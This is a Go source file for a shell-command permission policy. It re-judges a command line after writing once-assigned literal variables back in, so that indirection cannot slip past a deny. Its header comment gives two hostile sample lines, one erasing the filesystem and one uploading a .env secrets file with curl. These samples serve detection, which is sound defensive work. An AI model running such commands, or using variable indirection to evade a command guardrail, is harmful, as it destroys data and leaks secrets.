package policy

import (
	"sort"
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// A variable the line assigns a plain literal once, at its top level,
// then runs as a command or argument: `x=rm; $x -rf /`, `c=curl; f=.env;
// $c -T $f https://x`. The rest of the line after the assignment is
// judged again with the value written in, and a deny from that reading
// is the line's: bash runs rm -rf /. Only a deny is taken, never an allow
// or an ask, so a reading that is wrong can make the line stricter but
// never let anything through; the line's own reading (a command name from
// an expansion asks) stands otherwise.
//
// The name must be assigned exactly once in the whole line, by a
// statement of its own at the top level (so it surely ran before what
// follows), its value a single literal of safe characters (no space, glob,
// quote or tilde: word splitting and globbing leave it one word), and the
// line must name the variable nowhere else but in $NAME/${NAME} (no read,
// unset, export, printf -v, declare -n) and declare no function.

// constSafe reports a literal that word splitting and globbing leave as
// it is.
func constSafe(v string) bool {
	if v == "" || len(v) > 200 {
		return false
	}
	for _, r := range v {
		if !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || strings.ContainsRune("._/:@%+,=-", r)) {
			return false
		}
	}
	return true
}

type lineConst struct {
	val  string
	end  uint // offset where the assigning statement ends
	stmt int  // its index among the top-level statements
}

// judgeConstants re-judges the rest of the line with its literal
// constants written in and keeps only the denies (see above). cwAfter[i]
// is the working directory after top-level statement i.
func (c *checkEnv) judgeConstants(s *src, f *syntax.File, cwAfter []cwds) {
	if !strings.Contains(s.text, "$") || len(f.Stmts) < 2 {
		return
	}
	consts := map[string]lineConst{}
	assignLits := map[*syntax.Lit]bool{}
	for i, st := range f.Stmts {
		call, ok := st.Cmd.(*syntax.CallExpr)
		if !ok || len(call.Args) > 0 || len(st.Redirs) > 0 || st.Background || st.Coprocess || st.Negated {
			continue
		}
		for _, a := range call.Assigns {
			if a.Name == nil || a.Append || a.Naked || a.Array != nil || a.Index != nil || a.Value == nil || len(a.Value.Parts) != 1 {
				continue
			}
			lit, ok := a.Value.Parts[0].(*syntax.Lit)
			if !ok || !constSafe(lit.Value) {
				continue
			}
			consts[a.Name.Value] = lineConst{val: lit.Value, end: uint(st.End().Offset()), stmt: i}
		}
	}
	if len(consts) == 0 {
		return
	}
	// Names assigned more than once, or named outside $NAME, are not constants.
	count := map[string]int{}
	syntax.Walk(f, func(n syntax.Node) bool {
		switch x := n.(type) {
		case *syntax.FuncDecl:
			consts = map[string]lineConst{}
			return false
		case *syntax.Assign:
			if x.Name != nil {
				count[x.Name.Value]++
				assignLits[x.Name] = true
			}
		case *syntax.ParamExp:
			if x.Param != nil {
				assignLits[x.Param] = true // $NAME's own name
			}
		case *syntax.WordIter:
			count[x.Name.Value] += 2
		case *syntax.Lit:
			if assignLits[x] {
				return true
			}
			for name := range consts {
				if containsWord(x.Value, name) {
					count[name] += 2
				}
			}
		}
		return true
	})
	first := -1
	for name, k := range consts {
		if count[name] != 1 {
			delete(consts, name)
			continue
		}
		if first < 0 || k.stmt < first {
			first = k.stmt
		}
	}
	if len(consts) == 0 || first+1 >= len(f.Stmts) {
		return
	}
	start := uint(f.Stmts[first+1].Pos().Offset())
	type edit struct {
		a, b uint
		val  string
	}
	var edits []edit
	syntax.Walk(f, func(n syntax.Node) bool {
		p, ok := n.(*syntax.ParamExp)
		if !ok || p.Param == nil {
			return true
		}
		k, ok := consts[p.Param.Value]
		a, b := uint(p.Pos().Offset()), uint(p.End().Offset())
		if !ok || a < start || a < k.end || p.Excl || p.Length || p.Width || p.Index != nil || p.Slice != nil ||
			p.Repl != nil || p.Names != 0 || p.Exp != nil || p.NestedParam != nil || b > uint(len(s.text)) {
			return true
		}
		edits = append(edits, edit{a, b, k.val})
		return false
	})
	if len(edits) == 0 {
		return
	}
	sort.Slice(edits, func(i, j int) bool { return edits[i].a < edits[j].a })
	var b strings.Builder
	at := start
	for _, e := range edits {
		b.WriteString(s.text[at:e.a])
		b.WriteString(e.val)
		at = e.b
	}
	b.WriteString(s.text[at:])
	before := len(c.parts)
	cw := cwAfter[first].copy()
	c.shell(b.String(), &cw, s.depth+1, "constant")
	kept := c.parts[:before]
	for _, p := range c.parts[before:] {
		if p.Decision == Deny {
			kept = append(kept, p)
		}
	}
	c.parts = kept
}
